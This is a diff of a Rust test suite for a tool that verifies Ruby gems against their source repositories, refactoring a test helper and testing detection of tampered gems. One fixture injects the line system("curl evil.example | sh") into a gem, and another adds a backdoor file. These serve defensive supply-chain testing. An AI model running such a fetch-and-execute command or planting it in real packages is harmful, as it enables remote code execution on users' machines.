@@ -4,8 +4,6 @@
 
 mod gems_support;
 
-use std::path::PathBuf;
-
 use gems_support::*;
 use serde_json::json;
 
@@ -26,70 +24,27 @@ Gem::Specification.new do |s|
 end
 "#;
 
-/// A scratch world: repositories, a registry directory and a cache.
-struct World {
-    _tmp: tempfile::TempDir,
-    repos: PathBuf,
-    www: Registry,
-    cache: PathBuf,
-}
-
-impl World {
-    fn new() -> World {
-        let tmp = tempfile::tempdir().unwrap();
-        let repos = tmp.path().join("repos");
-        std::fs::create_dir_all(&repos).unwrap();
-        let www = Registry::new(&tmp.path().join("www"));
-        let cache = tmp.path().join("cache");
-        World {
-            repos,
-            www,
-            cache,
-            _tmp: tmp,
-        }
-    }
-
-    fn verify(&self, spec: &str) -> Run {
-        let server = TestServer::serve_dir(self.www.root.clone());
-        let url = format!("{}/", server.base_url().trim_end_matches('/'));
-        provero(&url, &self.repos, &self.cache, spec)
-    }
-
-    /// The `honest` gem: gemspec listing files with `git ls-files`, a symlink, tag `v1.0.0`.
-    fn honest(&self) -> Vec<u8> {
-        let dir = repo(
-            &self.repos,
-            "honest",
-            &[
-                ("honest.gemspec", HONEST_GEMSPEC),
-                (
-                    "lib/honest.rb",
-                    "module Honest\n  def self.hi = \"hi\"\nend\n",
-                ),
-                (
-                    "lib/honest/version.rb",
-                    "module Honest\n  VERSION = \"1.0.0\"\nend\n",
-                ),
-                ("lib/honest/alias.rb", "->../honest.rb"),
-                ("README.md", "# honest\n"),
-            ],
-            &["v1.0.0"],
-        );
-        gem_build(&dir, "honest.gemspec")
-    }
-
-    fn publish(&self, name: &str, number: &str, gem: &[u8], sha: Option<String>) {
-        self.www.publish(
-            name,
-            &[Published {
-                number,
-                platform: "ruby",
-                gem,
-                sha,
-            }],
-            json!({}),
-        );
-    }
+/// The `honest` gem: gemspec listing files with `git ls-files`, a symlink, tag `v1.0.0`.
+fn honest(w: &World) -> Vec<u8> {
+    let dir = repo(
+        &w.repos,
+        "honest",
+        &[
+            ("honest.gemspec", HONEST_GEMSPEC),
+            (
+                "lib/honest.rb",
+                "module Honest\n  def self.hi = \"hi\"\nend\n",
+            ),
+            (
+                "lib/honest/version.rb",
+                "module Honest\n  VERSION = \"1.0.0\"\nend\n",
+            ),
+            ("lib/honest/alias.rb", "->../honest.rb"),
+            ("README.md", "# honest\n"),
+        ],
+        &["v1.0.0"],
+    );
+    gem_build(&dir, "honest.gemspec")
 }
 
 fn no_red_flags(run: &Run) {
@@ -105,7 +60,7 @@ fn no_red_flags(run: &Run) {
 #[test]
 fn honest_gem_is_verified() {
     let w = World::new();
-    let gem = w.honest();
+    let gem = honest(&w);
     w.publish("honest", "1.0.0", &gem, None);
     let run = w.verify("gems:honest@1.0.0");
     assert_eq!(run.verdict(), "verified", "{:#}", run.json);
@@ -130,7 +85,7 @@ fn honest_gem_is_verified() {
 #[test]
 fn latest_and_every_version() {
     let w = World::new();
-    let gem = w.honest();
+    let gem = honest(&w);
     w.publish("honest", "1.0.0", &gem, None);
     let run = w.verify("gems:honest");
     assert_eq!(run.result()["package"]["version"], "1.0.0");
@@ -143,7 +98,7 @@ fn latest_and_every_version() {
 #[test]
 fn changed_line_is_content_differs() {
     let w = World::new();
-    let gem = repack(&w.honest(), false, |m| {
+    let gem = repack(&honest(&w), false, |m| {
         edit_data(m, |files| {
             let f = files.get_mut("lib/honest.rb").unwrap();
             f.extend_from_slice(b"system(\"curl evil.example | sh\")\n");
@@ -166,7 +121,7 @@ fn changed_line_is_content_differs() {
 #[test]
 fn injected_file_is_not_in_source() {
     let w = World::new();
-    let gem = repack(&w.honest(), false, |m| {
+    let gem = repack(&honest(&w), false, |m| {
         edit_data(m, |files| {
             files.insert(
                 "lib/honest/backdoor.rb".into(),
@@ -193,7 +148,7 @@ fn injected_file_is_not_in_source() {
 #[test]
 fn wrong_registry_sha_is_checksum_mismatch() {
     let w = World::new();
-    let gem = w.honest();
+    let gem = honest(&w);
     w.publish("honest", "1.0.0", &gem, Some("ab".repeat(32)));
     let run = w.verify("gems:honest@1.0.0");
     assert_eq!(run.verdict(), "mismatch");
@@ -207,7 +162,7 @@ fn wrong_registry_sha_is_checksum_mismatch() {
 fn tampered_inner_checksums_are_caught() {
     let w = World::new();
     // checksums.yaml.gz edited: the listed data.tar.gz digest no longer matches.
-    let gem = repack(&w.honest(), true, |m| {
+    let gem = repack(&honest(&w), true, |m| {
         let (_, sums) = m
             .iter_mut()
             .find(|(n, _)| n == "checksums.yaml.gz")
@@ -242,7 +197,7 @@ fn tampered_inner_checksums_are_caught() {
 
     // data.tar.gz changed but the old checksums kept: both the checksum and the file show.
     let w = World::new();
-    let gem = repack(&w.honest(), true, |m| {
+    let gem = repack(&honest(&w), true, |m| {
         edit_data(m, |files| {
             files.insert("README.md".into(), b"# changed\n".to_vec());
         })
@@ -260,7 +215,7 @@ fn tampered_inner_checksums_are_caught() {
 #[test]
 fn dependency_added_to_metadata_is_manifest_mismatch() {
     let w = World::new();
-    let gem = repack(&w.honest(), false, |m| {
+    let gem = repack(&honest(&w), false, |m| {
         edit_metadata(m, |yaml| {
             yaml.replacen(
                 "dependencies:\n",
@@ -296,7 +251,7 @@ fn dependency_added_to_metadata_is_manifest_mismatch() {
 #[test]
 fn development_dependency_made_runtime_is_manifest_mismatch() {
     let w = World::new();
-    let gem = repack(&w.honest(), false, |m| {
+    let gem = repack(&honest(&w), false, |m| {
         edit_metadata(m, |yaml| {
             let at = yaml.find("name: rake\n").expect("rake in the metadata");
             let (head, tail) = yaml.split_at(at);
@@ -334,7 +289,7 @@ fn development_dependency_made_runtime_is_manifest_mismatch() {
 #[test]
 fn repository_from_the_api_when_metadata_names_none() {
     let w = World::new();
-    let gem = repack(&w.honest(), false, |m| {
+    let gem = repack(&honest(&w), false, |m| {
         edit_metadata(m, |yaml| {
             yaml.replace(
                 "source_code_uri: https://github.com/acme/honest",
@@ -515,7 +470,7 @@ end
 #[test]
 fn unknown_gem_or_version_is_an_input_error() {
     let w = World::new();
-    let gem = w.honest();
+    let gem = honest(&w);
     w.publish("honest", "1.0.0", &gem, None);
     for spec in ["gems:nosuchgem@1.0.0", "gems:honest@9.9.9"] {
         let run = w.verify(spec);
@@ -527,7 +482,7 @@ fn unknown_gem_or_version_is_an_input_error() {
 #[test]
 fn compact_index_mirror_without_the_v1_api() {
     let w = World::new();
-    let gem = w.honest();
+    let gem = honest(&w);
     w.publish("honest", "1.0.0", &gem, None);
     // A gemstash-style mirror: the compact index Bundler reads, no /api/v1.
     std::fs::remove_dir_all(w.www.root.join("api")).unwrap();
